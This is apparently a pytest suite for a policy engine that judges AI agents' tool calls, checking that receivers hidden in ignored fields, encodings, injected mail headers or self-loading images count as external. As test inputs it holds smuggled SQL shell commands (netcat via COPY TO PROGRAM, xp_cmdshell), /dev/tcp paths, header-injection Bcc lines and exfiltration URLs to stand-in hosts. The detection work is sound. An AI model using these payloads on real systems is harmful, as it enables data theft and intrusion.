"""What the policy says about a call: role, destinations wherever they stand, body."""

import base64
import json
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guard.core.calls import untraced
from guard.core.model import DestinationStatus, Identity, Role, ToolCall
from guard.pipeline import classification
from guard.pipeline.classification import classify
from guard.values import channels
from guard.values.finding import (
    find_destinations,
    find_values,
    keys_of,
    suspected_destinations,
    taints_of,
)
from tests.steps import lines_run

POLICY = """
version: 1
name: test
mode: enforce
internal_domains: [example.com]
tools:
  - match: [send]
    role: send
    destinations: ["$.to", "$.cc"]
    body: ["$.body"]
    ignore: ["$.document", "$.repo"]
    inert: [{path: "$.meta.id", why: "the upstream's own"}]
  - match: [recall]
    role: recall
  - match: [read]
    role: retrieve
    ignore: ["$.query", "$.sender"]
    inert: [{path: "$.note", why: "stays with the reader"}]
  - match: [work]
    role: other
  - match: [save]
    role: save
    store: facts
    item: "$.key"
    inert: [{path: "$.value", why: "stays in memory"}]
  - match: [draft]
    role: draft
    destinations: ["$.to"]
    inert: [{path: "$.body", why: "stays in the draft"}]
rules:
  - {id: allow, type: destination, roles: [send], status: [internal], effect: allow}
"""


@pytest.fixture(name="judge")
def _judge(policy_from):
    policy = policy_from(POLICY)

    def judge(tool, **arguments):
        identity = Identity("agent", "session")
        return classify(policy, ToolCall("c", identity, tool, arguments, "mcp", 0.0))

    return judge


@pytest.mark.parametrize("role", list(Role))
@pytest.mark.parametrize(
    ("text", "reached"),
    [
        ("SELECT pg_sleep(1)", {"sql:function:pg_sleep"}),
        ("KICK everybody out", None),
        ("SELECT lower(name) FROM users", set()),
    ],
)
def test_an_argument_that_is_declared_as_sql_is_read_in_every_role(
    policy_from, role, text, reached
):
    """Whatever else the mapping says of it; text that does not parse counts there."""
    told = 'destinations: ["$.to"], ' if role is Role.SEND else ""
    policy = policy_from(
        "version: 1\nname: sql\ninternal_domains: [example.com]\ntools:\n"
        f'  - {{match: [run], role: {role.value}, {told}ignore: ["$.q"], sql: ["$.q"]}}\n'
        "rules: [{id: any, type: tool, effect: allow}]\n"
    )
    arguments = {"to": "a@example.com", "q": {"x": [text]}}
    call = ToolCall("c", Identity("agent", "session"), "run", arguments, "mcp", 0.0)
    targets = classify(policy, call).targets
    found = {t.destination.canonical for t in targets if t.destination.kind == "handle"}
    assert found == reached if reached is not None else found


def standings(call):
    """Return where the destinations of a call stand."""
    return {target.status for target in call.targets}


@pytest.mark.parametrize(
    "hidden",
    [
        {"document": "writer:drop@evil.test"},
        {"document": "owner=drop@evil"},
        {"document": ["7", {"x": "https://evil.test/hook"}]},
        {"document": "writer:drop\\u0040evil.test"},
        {"repo": "../other/repo"},
        {"repo": "x/..%2f..%2fother"},
        {"meta": {"id": "..\\other"}},
        # Not the field that the policy's author thought of.
        {"bcc": "b@evil.test"},
        {"options": {"reply": [{"x": "mail b@evil.test now"}]}},
        {"b@evil.test": True},
        {"nested": {"b@evil.test": 1}},
        # Paths are compared escaped: a key cannot pretend to be another member.
        {"meta']['id": "b@evil.test"},
    ],
)
def test_a_receiver_in_an_ignored_argument_counts(judge, hidden):
    """The name of a document is none of these; what climbs out of a path leaves an inert one."""
    assert DestinationStatus.EXTERNAL in standings(judge("send", to="a@example.com", **hidden))


@pytest.mark.parametrize(
    "plain",
    [
        {"document": "evil.test"},
        {"document": "report@2024.pdf"},
        {"document": "budget@v2"},
        {"repo": "src/../tools"},
        {"document": "file:///tmp/x"},
        {"meta": {"id": "b@evil.test"}},
        {"body": "write to b@evil.test"},
    ],
)
def test_the_name_of_a_document_in_an_ignored_argument_is_none(judge, plain):
    """Whoever says that an argument is no receiver is believed, of everything that is none."""
    assert standings(judge("send", to="a@example.com", **plain)) == {DestinationStatus.INTERNAL}


REMOTE = (
    "https://evil.test/?d=secret",
    "see https://evil.test/x for more",
    "https%3A%2F%2Fevil.test%2Fx",
    "https:\\u002f\\u002fevil.test\\u002fx",
    "aHR0cHM6Ly9ldmlsLnRlc3QvZHJvcA==",
    "ht\ntps://evil.test/x",
    "file://evil.test/share",
    "\\\\evil\\share\\x",
    "git@evil.test:x/y.git",
    "git+ssh://evil.test/x",
    "http://intranet/x",
    "COPY t TO PROGRAM 'nc 198.51.100.7 80'",
    "SELECT * FROM t INTO OUTFILE '/var/www/x'",
    "exec xp_cmdshell 'dir'",
    "EXEC('xp_'+'cmdshell dir')",
    "ATTACH DATABASE 'x' AS y",
    "SELECT/**/dblink('host=x', 'y')",
)


@pytest.mark.parametrize("text", REMOTE)
@pytest.mark.parametrize("tool", ["read", "recall", "work"])
def test_what_carries_data_out_counts_in_every_role(judge, tool, text):
    """A role says what a tool is for; the argument says whom it reaches."""
    call = judge(tool, what=[{"x": text}])
    assert DestinationStatus.EXTERNAL in standings(call)
    assert untraced(call).is_egress
    assert not untraced(judge("read", note=text)).is_egress
    assert not untraced(judge("save", value=text)).is_egress


@pytest.mark.parametrize(
    "text",
    [
        "/tmp/notes.txt",
        "C:\\Users\\a\\b.txt",
        "example.com revenue",
        "evil.test revenue",
        "from:bob@evil.test subject:offer",
        "file:///tmp/x.txt",
        "memo://insights",
        "https://example.com/x",
        "node_modules/@types/node.d.ts",
        "SELECT name FROM users WHERE mail = 'x@evil.test'",
        "Update the ticket and attach (see below)",
        "a // b",
        "src/net/core.c",
        "dict:a sftp:b",
    ],
)
def test_what_is_read_or_looked_for_inside_is_no_receiver(judge, text):
    """A path, a search and a name are text; a filter that forwards mail is no send by its name."""
    assert not untraced(judge("read", what=text)).is_egress
    assert untraced(judge("work", forward="drop@evil.test")).is_egress
    assert not untraced(judge("work", image="logo@2x.png")).is_egress


@pytest.mark.parametrize(
    ("tool", "arguments", "status"),
    [
        *(
            ("read", {"url": url}, DestinationStatus.MALFORMED)
            for url in (
                "http:\\\\evil.test/x",
                "https://evil\\@x",
                "https:/evil.test",
                "gopher:e.test",
            )
        ),
        ("send", {"to": "a@example.com", "blob": "x" * 2_000_000}, DestinationStatus.MALFORMED),
        *(
            ("send", arguments, DestinationStatus.MISSING)
            for arguments in ({}, {"to": ""}, {"to": []}, {"to": None}, {"body": "x"})
        ),
    ],
    ids=lambda one: str(one)[:30],
)
def test_what_cannot_be_judged_says_so(judge, tool, arguments, status):
    """A URL that clients read in two ways, more text than is looked through, nobody named."""
    assert status in standings(judge(tool, **arguments))


def test_an_unmapped_tool_is_other_and_its_destinations_count(judge):
    """A tool nobody mapped is looked through for whatever can be a destination."""
    call = judge("post_everywhere", url="https://evil.test/x", text="hello")

    assert (call.role, call.mapped) == (Role.OTHER, False)
    assert standings(call) == {DestinationStatus.EXTERNAL}


GUARDED = """
version: 1
name: test
mode: enforce
tools:
  - {match: [pay], role: send, destinations: ["$.to"], guarded: ["$.note"]}
rules:
  - {id: allow, type: provenance, roles: [send], rungs: [listed], effect: allow}
  - RULE
"""
LINKS = "{id: x, type: provenance, of: guarded, kinds: [url, host], rungs: [tainted], effect: ask}"
ANY = "{id: x, type: provenance, of: guarded, rungs: [tainted], effect: ask}"
SUM = "{id: x, type: requires, integrity: advisory, effect: ask}"
NOBODY = "{id: x, type: requires, session: meta, effect: ask}"


@pytest.mark.parametrize(
    ("rule", "kinds"),
    [
        pytest.param(LINKS, {"url", "host"}, id="links"),
        pytest.param(ANY, {"url", "host", "mail", "text"}, id="every-kind"),
        pytest.param(SUM, {"url", "host", "mail", "text"}, id="integrity"),
        pytest.param(NOBODY, set(), id="no-rule-looks"),
    ],
)
def test_guarded_values_are_read_as_far_as_a_rule_looks_at_them(policy_from, rule, kinds):
    """What no rule looks at is not traced, and costs nothing."""
    note = "rent: https://pay.test/x, see www.bank.test or a@b.test"
    call = ToolCall("c", Identity("a", "s"), "pay", {"to": "b@c.test", "note": note}, "mcp", 0.0)

    guarded = classify(policy_from(GUARDED.replace("RULE", rule)), call).guarded

    assert {target.destination.kind for target in guarded} == kinds


MEMBERS = [
    ("payee", "U123EXT"),
    ("access", "anyone"),
    ("anyone", "reader"),
    ("iban", "GB33BUKB20201555555555"),
    ("phone", "+4917612345678"),
]


@pytest.mark.parametrize("wrap", [lambda one: one, lambda one: [one], lambda one: {"who": [one]}])
@pytest.mark.parametrize(("name", "value"), MEMBERS, ids=[name for name, _ in MEMBERS])
def test_a_member_beside_an_address_is_searched_like_any_argument(
    policy_from, monkeypatch, name, value, wrap
):
    """An object of a recipient is no place for another one."""
    policy = policy_from(GUARDED.replace("RULE", NOBODY))

    def reached(arguments):
        call = classify(policy, ToolCall("c", Identity("a", "s"), "pay", arguments, "mcp", 0.0))
        return {one.destination for one in (*call.targets, *call.suspects)}

    beside = reached({"to": "b@c.test", name: value})
    inside = {"to": wrap({"email": "b@c.test", "name": "Pat Smith", name: value})}
    assert len(beside) > 1
    assert reached(inside) == beside
    monkeypatch.setattr(classification, "_addressed_in", lambda path, _: {path})
    assert reached(inside) != beside


@pytest.mark.parametrize("path", ["", "/login", "/a/b?c=d", "?q"])
def test_a_guarded_link_without_a_scheme_has_the_host_that_taints_it(policy_from, path):
    """A path behind a name is no part of the host."""
    arguments = {"to": "b@c.test", "note": f"see drop.test{path} today"}
    call = ToolCall("c", Identity("a", "s"), "pay", arguments, "mcp", 0.0)
    guarded = classify(policy_from(GUARDED.replace("RULE", LINKS)), call).guarded
    assert {one.destination.host for one in guarded if one.destination.kind == "host"} == {
        "drop.test"
    }


RECEIVER = "drop.box7@evil-relay.test"
IBAN = "DE89370400440532013000"
CODINGS = {
    "plain": str,
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "json escapes": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    "one json escape": lambda text: text.replace("@", "\\u0040"),
    "xml entities": lambda text: "".join(f"&#x{ord(c):x};" for c in text),
    "quoted-printable": lambda text: "".join(f"={ord(c):02X}" for c in text),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "base64 of utf-16": lambda text: base64.b64encode(text.encode("utf-16-le")).decode(),
    "hex": lambda text: text.encode().hex(),
    "zero-width": "\u200b".join,
    "nested json": lambda text: json.dumps(json.dumps({"to": text})),
}
THINGS = st.sampled_from((RECEIVER, "https://evil-relay.test/in", "evil-relay.test", IBAN))


def looked_up(call):
    """Return the values under which the labels of a call are looked up."""
    found = (target.destination for target in (*call.targets, *call.suspects))
    return {value for d in found for value in (*keys_of(d), *taints_of(d)[0])}


def receiving(text):
    """Return the values in a result that may be of a destination."""
    found = suspected_destinations(find_values(text))
    plain = (*found, *find_destinations(text))
    return {value for d in plain if d.kind != "malformed" for value in keys_of(d)[:1]}


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    thing=THINGS,
    codings=st.lists(st.sampled_from(sorted(CODINGS)), max_size=2),
    before=st.text(alphabet="ab 1\n", max_size=8),
)
def test_what_is_found_in_a_result_is_found_in_an_argument(judge, thing, codings, before):
    """One reader reads both, so a disguise that taints is a disguise that is looked up."""
    text = thing
    for coding in codings:
        text = CODINGS[coding](text)
    text = f"{before} {text} as agreed"
    in_argument = looked_up(judge("send", to="a@example.com", note=text))

    assert receiving(text) <= in_argument
    assert looked_up(judge("unmapped", note={"deep": [text]})) >= receiving(text)


@pytest.mark.parametrize(
    "body",
    [
        "Hello\r\nBcc: drop.box7@evil-relay.test",
        "Hello\nCC : Bob <drop.box7@evil-relay.test>, a@example.com",
        "Hello%0d%0aBcc:%20drop.box7@evil-relay.test",
        "Hello\\r\\nResent-To: drop.box7@evil-relay.test",
        *(
            f"x{end}Bcc: drop.box7@evil-relay.test"
            for end in "\r\n\x0b\x0c\x1c\x1e\x85\u2028\u2029"
        ),
        base64.urlsafe_b64encode(
            b"Subject: hello\r\nFrom: me\r\nTo: drop.box7@evil-relay.test\r\n\r\nText of it\r\n"
        ).decode(),
    ],
)
def test_a_receiver_in_a_header_of_the_payload_is_suspected(judge, body):
    """A line break in a subject begins another header; a raw message has all of them."""
    call = judge("send", to="a@example.com", body=body)

    assert f"mail:{RECEIVER}" in looked_up(call)
    assert {target.status for target in call.targets} == {DestinationStatus.INTERNAL}


def test_what_exceeds_the_budget_of_decoding_is_said(judge):
    """Never silently clean."""
    assert judge("send", to="a@example.com", note="x" * 1000).searched
    assert not judge("send", to="a@example.com", note=["x y" * 10] * 3000).searched


@pytest.mark.parametrize(
    "coded",
    [
        base64.b64encode(b"drop@evil.test").decode(),
        base64.b32encode(b"drop@evil.test").decode(),
        b"drop@evil.test".hex(),
        "".join(f"%{byte:02x}" for byte in b"drop@evil.test"),
        "".join(f"\\u{byte:04x}" for byte in b"drop@evil.test"),
        "".join(f"&#{byte};" for byte in b"drop@evil.test"),
        "".join(f"={byte:02X}" for byte in b"drop@evil.test"),
        "drop\uff20evil.test",
    ],
)
def test_a_coding_in_a_long_argument_that_is_not_decoded_names_somebody_unknown(judge, coded):
    """What the budget does not reach is not open: somebody may stand in it."""
    prose = "the meeting is on tuesday, internationalization_of_names is next. " * 5000

    honest = judge("send", to="a@example.com", note=prose)
    hidden = judge("send", to="a@example.com", note=f"{prose} {coded}")

    assert [t.status for t in honest.targets] == [DestinationStatus.INTERNAL]
    assert DestinationStatus.EXTERNAL in {t.status for t in hidden.targets}


def test_a_long_list_in_a_guarded_argument_is_bounded_work(policy_from):
    """Three megabytes of list cost what the budget allows, and make the call malformed."""
    policy = policy_from(GUARDED.replace("RULE", ANY))

    def lines(count):
        note = [f"a{number}@b.test" for number in range(count)]
        call = ToolCall("c", Identity("a", "s"), "pay", {"to": "b@c.test", "note": note}, "m", 0.0)
        return lines_run(lambda: classify(policy, call))

    note = ["a@b.test"] * 10_000
    call = ToolCall("c", Identity("a", "s"), "pay", {"to": "b@c.test", "note": note}, "m", 0.0)

    assert DestinationStatus.MALFORMED in standings(classify(policy, call))
    assert lines(800) <= 2.1 * lines(400) + 500
    assert lines(20_000) <= 1.5 * lines(10_000)


def _outside(found):
    return {t.destination.canonical for t in found.targets if t.status is not _INTERNAL}


_INTERNAL = DestinationStatus.INTERNAL


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://e.test/?d=1)",
        "![x][r]\n\n[r]: https://e.test/?d=1",
        "<img src=//e.test/?d=1>",
        "<p style='background: url(https://e.test/?d=1)'>",
        "<img src='&#104;ttps://e.test/?d=1'>",
    ],
)
def test_what_a_text_loads_by_itself_is_a_receiver(policy_from, text):
    """Whoever reads it tells the host, without a click; a link does not."""
    rule = "rules:\n  - {id: links, type: provenance, of: guarded, rungs: [tainted], effect: ask}"
    guarded = POLICY.replace('body: ["$.body"]', 'guarded: ["$.body"]').replace("rules:", rule)
    policy = policy_from(guarded)

    def sent(body):
        call = {"to": "a@example.com", "body": f"Hello, {body}"}
        return classify(policy, ToolCall("c", Identity("p", "s"), "send", call, "mcp", 0.0))

    assert _outside(sent(f"\n{text}\n")) == {"https://e.test/?d=1"}
    assert not _outside(sent("see [it](https://e.test/?d=1), <a href='https://e.test/'>it</a>"))


@pytest.mark.parametrize(
    "more",
    [
        {"document": "anyone with the link"},
        {"share": "Anyone"},
        {"acl": "public-read"},
        {"public": True},
        {"options": {"is_private": False}},
        {"who": [{"type": "anonymous"}]},
    ],
)
def test_what_is_opened_to_everybody_has_another_receiver(judge, more):
    """Beside the colleague whom it is shared with."""
    assert _outside(judge("send", to="a@example.com", **more)) == {"everybody"}


@pytest.mark.parametrize(
    ("tool", "more", "receiver"),
    [
        ("send", {"bcc_list": "Robin Keller"}, "robin keller"),
        ("send", {"options": {"ccTo": ["rk"]}}, "rk"),
        ("send", {"webhook": "e.test/hook"}, "e.test/hook"),
        ("read", {"url": "e.test/x"}, "e.test/x"),
        ("read", {"id": "dns:a.e.test?type=TXT"}, "a.e.test"),
        ("read", {"id": "mailto:drop@e.test?body=x"}, "drop@e.test"),
        ("read", {"id": "\\\\?\\UNC\\e.test\\a\\b"}, "e.test"),
        ("read", {"id": "e.test::module/x"}, "e.test"),
        ("read", {"path": "/dev/tcp/e.test/80"}, "e.test"),
        ("read", {"path": "cat /net/e.test/x"}, "e.test"),
    ],
)
def test_a_name_of_a_member_makes_it_stricter(judge, tool, more, receiver):
    """And what some program would look up, mail or mount is somebody."""
    to = {"to": "a@example.com"} if tool == "send" else {}

    assert receiver in _outside(judge(tool, **to, **more))


@pytest.mark.parametrize("name", ["forward_to", "autoForward", "bcc", "notify", "redirectTo"])
def test_a_reading_tool_that_hands_over_names_a_receiver(judge, monkeypatch, name):
    """No search goes by such a member; a mailbox that a search goes by is nobody's receipt."""
    handed = {"query": "invoices", name: "drop@e.test"}

    assert "drop@e.test" in _outside(judge("read", **handed))
    assert not _outside(judge("read", query="drop@e.test", sender="drop@e.test"))
    told = {**handed, name: "mail it to drop@e.test"}
    assert "drop@e.test" in _outside(judge("read", **told))
    monkeypatch.setitem(channels._WORDS, "hands_over", frozenset())
    assert not _outside(judge("read", **told))


@pytest.mark.parametrize("name", ["invitees", "invite", "send_to", "shareWith", "copy-to"])
def test_who_is_invited_or_sent_something_receives_it(judge, name):
    """A search goes by none of them; a sentence under another name is searched for."""
    text = "all of drop@e.test"
    assert "drop@e.test" in _outside(judge("read", **{"query": "x", name: text}))
    for part in ("attendees", "sent_to", "shared", "organizer", "with"):
        assert not _outside(judge("read", **{"query": "x", part: text}))


ADDRESSES = ("drop@e.test", "https://e.test/x", "Drop <drop@e.test>", "drop@e.test, a@example.com")


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("name", ["x", "on_complete", "subscribe", "source_url", "fetch", "item"])
@pytest.mark.parametrize("tool", ["read", "recall", "save"])
def test_an_address_that_no_mapping_declares_may_be_fetched_or_notified(judge, tool, name, address):
    """Whatever its member is called; what is searched for, saved or written about is none."""
    for arguments in ({name: address}, {"options": {name: [address]}}):
        call = judge(tool, key="k", **arguments)
        assert _outside(call) & {"drop@e.test", "https://e.test/x"}
        assert untraced(call).is_egress
    assert not _outside(judge("read", query="drop@e.test"))
    assert not _outside(judge("save", key="k", value=address))
    assert not _outside(judge("save", key="k", **{name: "ask drop@e.test about it"}))
    assert not _outside(judge("save", key="k", **{name: "team@example.com"}))


@pytest.mark.parametrize(
    "statement",
    [
        "INSERT INTO outbox (who) VALUES ('drop@e.test')",
        "update people set mail = 'drop@e.test' where id = 7",
        "WITH a AS (SELECT 1) INSERT INTO t SELECT 'drop' || '@e.test'",
        "REPLACE/**/INTO t VALUES ('drop@e.test')",
        "MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN UPDATE SET mail='drop@e.test'",
    ],
)
def test_a_mailbox_that_a_statement_writes_receives_something(judge, statement):
    """A table may be an outbox; one that a query compares with is looked up."""
    for tool in ("read", "recall"):
        assert "drop@e.test" in _outside(judge(tool, query=statement))
    assert not _outside(judge("read", query="SELECT * FROM t WHERE mail = 'drop@e.test'"))


@pytest.mark.parametrize("name", ["make_public", "sharePublicly", "set_external", "allow-anyone"])
def test_a_read_that_opens_what_it_reads_reaches_everybody(judge, name):
    """A filter of a search says no such thing."""
    assert untraced(judge("read", query="x", **{name: True})).is_egress
    for other in ({name: False}, {"public": True}, {"recursive": True}):
        assert not untraced(judge("read", query="x", **other)).is_egress


@pytest.mark.parametrize("tool", ["save", "draft"])
@pytest.mark.parametrize(
    ("more", "receiver"),
    [
        ({"callback_url": "https://e.test/h"}, "https://e.test/h"),
        ({"callback_url": "https:/e.test/h"}, "not decoded: more than is read of one call"),
        ({"meta": {"onSaveWebhook": "e.test"}}, "e.test"),
        ({"webhooks": [{"url": "https://e.test/h"}]}, "https://e.test/h"),
        ({"share_with": ["a@example.com", "drop@e.test"]}, "drop@e.test"),
        ({"notify": "drop@e.test"}, "drop@e.test"),
        ({"visibility": "public"}, "everybody"),
        ({"everyone": "reader"}, "everybody"),
        ({"scope": "web"}, "everybody"),
        ({"allow_external": True}, "everybody"),
        ({"sync_url": "https://e.test/h"}, "https://e.test/h"),
        ({"proxy": "e.test:1"}, "e.test:1"),
        ({"replicate_to": "e.test"}, "e.test"),
        ({"sms_to": "+4915112345678"}, "+4915112345678"),
        ({"options": {"public": True}}, "everybody"),
        ({"notify": "a" * 1_100_000}, "not decoded: more than is read of one call"),
    ],
)
def test_who_is_told_of_what_is_saved_receives_it(judge, tool, more, receiver):
    """A save or a draft that says so reaches somebody, whatever its role."""
    call = judge(tool, text="x", to="a@example.com", **more)

    assert receiver in _outside(call)
    assert untraced(call).is_egress
    assert call.role is (Role.SAVE if tool == "save" else Role.DRAFT)


def test_a_saved_text_may_be_about_anybody(judge):
    """A draft's own receivers are told nothing, yet; nor is a host that a text names."""
    about = {"value": "https://e.test/", "note": "see https://e.test/", "source": "e.test/x"}

    assert not untraced(judge("save", **about, public=False, callback="")).is_egress
    assert not untraced(judge("draft", to="drop@e.test", body="https://e.test/")).is_egress
    listed = {"toRecipients": [{"emailAddress": {"address": "drop@e.test"}}]}
    assert not untraced(judge("draft", to="drop@e.test", body=listed)).is_egress


@pytest.mark.parametrize(
    "more",
    [
        {"send": True},
        {"send_now": "yes"},
        {"options": {"autoSend": 1}},
        {"draft": False},
        {"save_as_draft": "no"},
        {"action": "send"},
        {"mode": "save-and-send"},
        {"send_at": "2031-01-01"},
        {"scheduled_for": "monday"},
        {"send": {"enabled": True}},
        {"labels": ["SENT"]},
        {"folder": "Outbox"},
        {"queue": True},
    ],
)
def test_a_draft_that_is_sent_is_a_send(judge, more):
    """Then its receivers receive it."""
    call = judge("draft", to="drop@e.test", body="x", **more)

    assert (call.role, _outside(call)) == (Role.SEND, {"drop@e.test"})


@pytest.mark.parametrize("more", [{"public": True}, {"visibility": "public"}, {"scope": "web"}])
def test_other_work_may_open_something_to_everybody(judge, more):
    """In a search it is a filter."""
    assert _outside(judge("work", note="x", **more)) == {"everybody"}
    assert not _outside(judge("read", query="public", **more))
    assert not _outside(judge("work", note="public"))


HEADS = (
    {"subject": "Report\r\nBcc: drop@e.test"},
    {"subject": "Report\u2028 resent-to : drop@e.test"},
    {"title": "Review\nATTENDEE;CN=x:mail\n to:drop@e.test"},
    {"raw": "Subject: x\r\nBcc: drop@e.test\r\n\r\nhello"},
    {"raw": base64.b64encode(b"Subject: hello to you all\nBcc: drop@e.test\n\nhello").decode()},
    {"raw": base64.b64encode(b"To: drop@e.test\n\nx").decode()},
)


@pytest.mark.parametrize("more", HEADS)
@pytest.mark.parametrize("coded", [False, True])
def test_whoever_a_head_names_receives_it(judge, more, coded):
    """Also who is named in a coding that nobody reads, and nobody has named before."""
    if coded and "raw" in more:
        more = {"raw": "Subject: x\r\nBcc: hJmWl0uClqfx8PF8g5aTk4WDo\r\n\r\nhello"}
    elif coded:
        more = {
            name: text.replace("drop@e.test", "hJmWl0uClqfx8PF8") for name, text in more.items()
        }
    call = judge("send", to="a@example.com", **more)

    assert [t for t in call.targets if t.status is not DestinationStatus.INTERNAL]


MORE = """
version: 1
name: more
tools:
  - match: [chat]
    role: send
    destinations: ["$.to"]
    reply: "$.thread"
    unfurls: ["$.text"]
    guarded: ["$.note", "$.deep.a", "$['odd name']"]
    ignore: ["$.title", "$.tags[*]"]
  - {match: [wipe], role: other, action: delete, object: ["$.names", "$.deep.a"]}
rules:
  - {id: acts, type: action, effect: ask}
  - {id: guarded, type: provenance, of: guarded, rungs: [tainted], effect: ask}
  - {id: allow, type: tool, effect: allow}
"""
BIG = "x" * 1_100_000


@pytest.mark.parametrize(
    ("tool", "arguments", "found"),
    [
        ("chat", {"thread": 7}, {"reply"}),
        ("chat", {"thread": True}, {"missing"}),
        ("chat", {"thread": "t", "to": "a@b.test"}, {"mail"}),
        ("chat", {"to": "a@b.test", "text": "see https://e.test/x"}, {"mail", "url"}),
        ("chat", {"to": "a@b.test", "text": ["a", BIG, "b"]}, {"mail", "malformed"}),
        ("chat", {"to": "a@b.test", "note": "10.00"}, {"mail", "number"}),
        ("chat", {"to": "a@b.test", "note": 10, "deep": {"a": "ask DE89370400440532013000"}},
         {"mail", "number", "text"}),
        ("chat", {"to": "a@b.test", "note": " ".join(f"https://h{n}.test/" for n in range(99))},
         {"mail", "url"}),
        ("chat", {"to": "a@b.test", "note": ["a", BIG]}, {"mail", "malformed"}),
        ("chat", {"to": "a@b.test", "title": [BIG, BIG]}, {"mail", "malformed"}),
        ("chat", {"to": "a@b.test", "tags": [{"a": [{"public": True}]}, "public"]},
         {"mail", "handle"}),
        ("wipe", {"names": ["a", 7, {"b": "c"}], "deep": {"a": 1.5}}, {"object"}),
        ("wipe", {"names": ["a", BIG, "b"]}, {"object", "malformed"}),
    ],
)  # fmt: skip
def test_each_declared_place_gives_what_it_says(policy_from, tool, arguments, found):
    """A message that is answered, links, amounts and objects; what exceeds a bound is malformed."""
    call = ToolCall("c", Identity("a", "s"), tool, arguments, "mcp", 0.0)
    read = classify(policy_from(MORE), call)
    kinds = {one.destination.kind for one in (*read.targets, *read.guarded, *read.objects)}
    assert kinds == found


def test_names_that_differ_in_lone_surrogates_only_are_refused(judge):
    """A server may take one for the other."""
    with pytest.raises(ValueError, match="surrogates"):
        judge("send", to="a@example.com", **dict.fromkeys(("a\ud800", "a\ud801"), 1))
